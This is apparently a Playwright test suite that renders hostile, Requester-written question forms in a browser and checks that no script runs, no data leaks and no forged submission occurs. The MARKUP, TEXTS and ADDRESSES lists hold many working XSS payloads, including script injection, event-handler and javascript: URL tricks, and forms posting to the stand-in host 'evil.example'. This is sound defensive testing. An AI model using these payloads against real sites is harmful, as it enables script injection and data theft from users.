"""Hostile QuestionForms in a real browser: nothing runs, nothing leaks, nothing is handed in as the Worker.

A Requester writes them, so each text in them is an attack: in formatted content, in every other element, in addresses
and in names. What the schema lets through is shown, on a host of its own and without an origin, and watched.
"""

from __future__ import annotations

import contextlib
from html import escape
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request, WebError, expect

from kempelen.core.questions import questions
from kempelen.core.wire.errors import ParameterValidationError
from tests.market.work import new_hit
from tests.web import forms
from tests.web.places import Place, accept, signed_in

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def browser(whole_browser: Browser) -> Browser:
    """Walls are tried in all of Chromium."""
    return whole_browser


EVIL = "http://evil.example:9"
RUN = "window.top.ran = window.ran = 1; alert(1)"

# Pieces of markup, as they would stand in a FormattedContent; those that the subset refuses never reach a page.
MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f'<script src="{EVIL}/x.js"/>',
    f'<img src="{EVIL}/a.png" alt="x" onerror="{RUN}"/>',
    f"<img src='{EVIL}/a.png' alt='x\" onerror=\"{RUN}'/>",
    f'<img src="{EVIL}/a.png" alt="&quot; onerror=&quot;{RUN}"/>',
    f'<img src="{EVIL}/a.png" alt="x" longdesc="{EVIL}/l" usemap="#x&quot; onload=&quot;{RUN}"/>',
    f'<img src="javascript:{RUN}" alt="x"/>',
    f'<img src="{EVIL}/&#34;onerror=&#34;{RUN}" alt="x"/>',
    f'<img src="http://&#x0A;/{EVIL}" alt="x" width="1%" height="100"/>',
    '<img src="data://text/html,x" alt="x"/>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="javascript://x%0a{RUN}">x</a>',
    f'<a href="JaVaScRiPt://x&#10;{RUN}">x</a>',
    f'<a href="&#1;javascript://x&#10;{RUN}">x</a>',
    f'<a href="vbscript://{RUN}">x</a>',
    '<a href="data://text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    f'<a href="http://x" title="&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;">x</a>',
    f'<a href="{EVIL}/link" target="_top" rel="opener">leave</a>',
    f'<map name="questions" id="questions"><area alt="x" href="{EVIL}/area" target="_parent" shape="default"/></map>',
    f'<map name="x" id="x"><area alt="x" href="javascript://%0a{RUN}"/></map>',
    '<img src="http://evil.example:9/n.png" alt="" name="questions"/>',
    '<img src="http://evil.example:9/n.png" alt="" name="form"/>',
    '<a name="form">x</a><a name="questions">x</a>',
    f'<font color="red&quot; onclick=&quot;{RUN}" size="&quot;{RUN}" face="x;{RUN}">x</font>',
    f'<ins cite="javascript://%0a{RUN}" datetime="&lt;script&gt;">x</ins>',
    f'<blockquote cite="{EVIL}/cite">x</blockquote>',
    "<p>&lt;script&gt;window.ran=1&lt;/script&gt;</p>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<p>]]&gt;<![CDATA[</p><script>{RUN}</script>]]></p>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script> -->",
    f"<?php echo ?><?xml-stylesheet href='{EVIL}/x.xsl'?>",
    f"<pre>&lt;/pre&gt;&lt;script&gt;{RUN}&lt;/script&gt;</pre>",
    f"<table bgcolor='#fff' summary='&lt;/table&gt;&lt;script&gt;{RUN}'><tr><td>x</td></tr></table>",
    f"<table><tr><td><a href='{EVIL}/cell'>x</a></td></tr></table>",
    "</div></fieldset></form><form action='http://evil.example:9/steal'>",
    f"<form action='{EVIL}/steal'><input name='assignmentId'/><button>Submit</button></form>",
    f"<iframe src='{EVIL}/frame'/>",
    f"<object data='{EVIL}/object'/>",
    f"<embed src='{EVIL}/embed'/>",
    f"<svg onload='{RUN}'/>",
    f"<math><a href='javascript:{RUN}'>x</a></math>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<p style=\"background:url('{EVIL}/bg')\">x</p>",
    "<p id='questions' class='fault'>x</p>",
    f"<base href='{EVIL}/'/>",
    f"<link rel='stylesheet' href='{EVIL}/x.css'/>",
    f"<meta http-equiv='refresh' content='0;url={EVIL}/meta'/>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<script xmlns='http://www.w3.org/2000/svg'>{RUN}</script>",
    f"<p xml:base='{EVIL}/'>x</p>",
    "<textarea>", "<title>", "<plaintext>", "<noscript>", "<template>", "<select>", "</textarea></title></script>",
    "<b>" * 5_000 + "deep" + "</b>" * 5_000,
    "<ul><li>" * 2_000 + "deep" + "</li></ul>" * 2_000,
    "&nbsp;&euro;&#0;", "&#x1F;", "&xxe;", "&lt;!DOCTYPE x [&lt;!ENTITY a 'b'&gt;]&gt;",
]  # fmt: skip

# Texts that could break out of where they stand, if anything there were not escaped.
TEXTS = [
    f"<script>{RUN}</script>",
    f'</script></textarea></title></option></select><img src=x onerror="{RUN}">',
    f'" onfocus="{RUN}" autofocus x="',
    f"' onmouseover='{RUN}' x='",
    "{{ 7 * 7 }} {% raw %} ${7*7} `",
    "</fieldset></form><form action=http://evil.example:9/steal><input name=a>",
    "\u202e\u2028\u2029\ufeff\u00ad",
]
ADDRESSES = [
    f"{EVIL}/picture.png",
    f'http://x"onerror="{RUN}',
    f"http://javascript:{RUN}",
    "https://evil.example:9/a'b<c>d",
    "http://[",
    "http://user:pass@evil.example:9/",
    "http://127.0.0.1:1/?\u202e",
]


def accepted_markup() -> list[str]:
    """The pieces that the subset lets through."""
    taken = []
    for piece in MARKUP:
        content = piece.replace("]]>", "]]]]><![CDATA[>")
        with contextlib.suppress(ParameterValidationError):
            questions.parse(forms.form(forms.overview(forms.formatted(content))))
            taken.append(content)
    return taken


def in_formatted_content() -> list[str]:
    """Forms with all that the subset lets through, as content and as choices."""
    pieces, made = accepted_markup(), []
    while pieces:
        parts, size = [], 0
        while pieces and (not parts or size + 2 * len(pieces[0]) < 40_000):
            piece = pieces.pop(0)
            size += 2 * len(piece)
            answer = forms.choices("a" + forms.formatted(piece), "b=B", least=0) if len(piece) < 5_000 else forms.text()
            parts.append(forms.question(f"q{len(parts)}", answer, content=forms.formatted(piece)))
        made.append(forms.form(*parts))
    return made


def in_every_other_place() -> str:
    """One form with each text in each place a text may stand, and each address as that of a picture, film and thing."""
    parts = []
    for number, said in enumerate(map(escape, TEXTS)):
        parts += [
            forms.overview(
                f"<Title>{said}</Title><Text>{said}</Text><List><ListItem>{said}</ListItem></List>"
                + forms.binary(alt=said)
                + forms.embedded(said, size=said)
            ),
            forms.question(
                f"text {number} {said}",
                forms.text(
                    forms.regex("^x$", TEXTS[number]) + forms.regex(TEXTS[number]), default=said, lines=number % 2 + 1
                ),
                name=said,
            ),
            forms.question(f"choice {number} {said}", forms.choices(f"{said}={said}", other="", least=0), name=said),
            forms.question(f"menu {number}", forms.choices(f"{said}={said}", style="dropdown", least=0)),
        ]
    for url in map(escape, ADDRESSES):
        parts.append(forms.overview(forms.binary(url=url) + forms.binary("audio", url) + forms.binary("video", url)))
    parts.append(forms.overview(forms.FLASH.replace("http://127.0.0.1:9/a.swf", f"{EVIL}/{escape(TEXTS[0])}")))
    return forms.form(*parts, date="2005-10-01")


class Watch:
    """What a window does that it must not: scripts that run, requests that tell, windows that open."""

    def __init__(self, context: BrowserContext, place: Place) -> None:
        self.ran: list[str] = []
        self.requests: list[Request] = []
        self._place = place
        context.on("request", self.saw_request)
        context.on("dialog", self.saw_dialog)
        context.on("weberror", self.saw_error)
        context.route("http://evil.example:9/**", lambda route: route.fulfill(body="evil", content_type="text/html"))

    def saw_request(self, request: Request) -> None:
        self.requests.append(request)

    def saw_dialog(self, dialog: Dialog) -> None:
        self.ran.append(dialog.message)
        dialog.dismiss()

    def saw_error(self, error: WebError) -> None:
        self.ran.append(str(error.error))

    def outside(self) -> list[Request]:
        """Requests to anybody but the site and its tasks."""
        return [each for each in self.requests if not self.is_ours(each.url)]

    def is_ours(self, url: str) -> bool:
        parts = urlsplit(url)
        host = parts.hostname or ""
        return str(parts.port) == self._place.port and (host.endswith("localhost") or host == "127.0.0.1")


def assert_nothing_happened(watch: Watch, place: Place, page: Page, assignment_url: str) -> None:
    assert watch.ran == []
    assert page.evaluate("window.ran") is None
    assert [frame.evaluate("window.ran") for frame in page.frames] == [None] * len(page.frames)
    assert page.url == assignment_url
    assert all(watch.is_ours(frame.url) for frame in page.frames)
    for request in watch.outside():
        headers = request.all_headers()
        assert request.method == "GET", request.url
        assert request.resource_type in ("image", "media"), (request.resource_type, request.url)
        assert "cookie" not in headers
        assert "ticket" not in headers.get("referer", "")
        assert place.bob not in request.url + headers.get("referer", "")
    assert not any(request.method == "POST" and "/submit" in request.url for request in watch.requests)
    assert len(place.queue()) == 1


@pytest.mark.parametrize("host", ["kempelen.localhost", "127.0.0.1"])
@pytest.mark.parametrize("number", range(len(in_formatted_content()) + 1))
def test_a_hostile_form_runs_nothing_and_tells_nothing(
    context: BrowserContext, place: Place, number: int, host: str
) -> None:
    asked = [*in_formatted_content(), in_every_other_place()][number]
    watch = Watch(context, place)
    hit = new_hit(place.market, place.alice, question=asked)
    page = signed_in(context, place, host)
    accept(page, place, hit.hit_group_id)
    assignment_url = page.url
    task = page.frame_locator("#task")
    expect(task.get_by_role("button", name="Submit")).to_be_visible()
    frame = page.frame(url="**/task/**")
    assert frame is not None
    frame.evaluate(
        """() => {
            for (const each of document.querySelectorAll("*")) {
                for (const kind of ["mouseover", "focus", "error", "load"]) each.dispatchEvent(new Event(kind));
            }
            for (const each of document.querySelectorAll("img")) each.loading = "eager";
        }"""
    )
    page.wait_for_timeout(500)
    assert_nothing_happened(watch, place, page, assignment_url)
    assert frame.evaluate("document.forms.length") == 1
    scripts = frame.evaluate("[...document.scripts].map(({src}) => src.match(/stand-ins.([\\w-]+)/)[1])")
    assert scripts == ["hand-in", "drafts", "question-form"]
    assert frame.evaluate("document.querySelectorAll('iframe, object, embed, base, meta[http-equiv]').length") == 0
    assert frame.evaluate("document.getElementById('questions').tagName") == "FORM"
    action = frame.evaluate("document.forms[0].action")
    assert action.endswith("/mturk/externalSubmit")
    assert watch.is_ours(action)
    handlers = frame.evaluate(
        "[...document.querySelectorAll('*')].flatMap((each) => [...each.attributes])"
        ".filter(({ name }) => name.startsWith('on') || name === 'style').map(({ name }) => name)"
    )
    assert handlers == []
    for link in frame.query_selector_all("a[href], area[href]"):
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.evaluate("each => each.protocol") in ("http:", "https:", "ftp:", ":")


def test_a_link_leads_to_a_window_that_knows_nothing(context: BrowserContext, place: Place) -> None:
    asked = forms.form(
        forms.question("q", forms.text(), content=forms.formatted(f'<a href="{EVIL}/link" target="_top">leave</a>'))
    )
    watch = Watch(context, place)
    hit = new_hit(place.market, place.alice, question=asked)
    page = signed_in(context, place)
    accept(page, place, hit.hit_group_id)
    assignment_url = page.url
    with context.expect_page() as opened:
        page.frame_locator("#task").get_by_role("link", name="leave").click()
    window = opened.value
    window.wait_for_load_state()
    assert window.url == f"{EVIL}/link"
    assert window.evaluate("[window.opener, document.referrer, document.cookie]") == [None, "", ""]
    assert page.url == assignment_url
    (request,) = watch.outside()
    assert "referer" not in request.all_headers()


def test_most_of_the_corpus_never_reaches_a_page() -> None:
    taken = accepted_markup()
    assert 15 < len(taken) < len(MARKUP) * 2 / 3
    for piece in taken:
        assert not piece.lower().startswith(("<script", "<iframe", "<form", "<style", "<svg", "<object", "<base"))
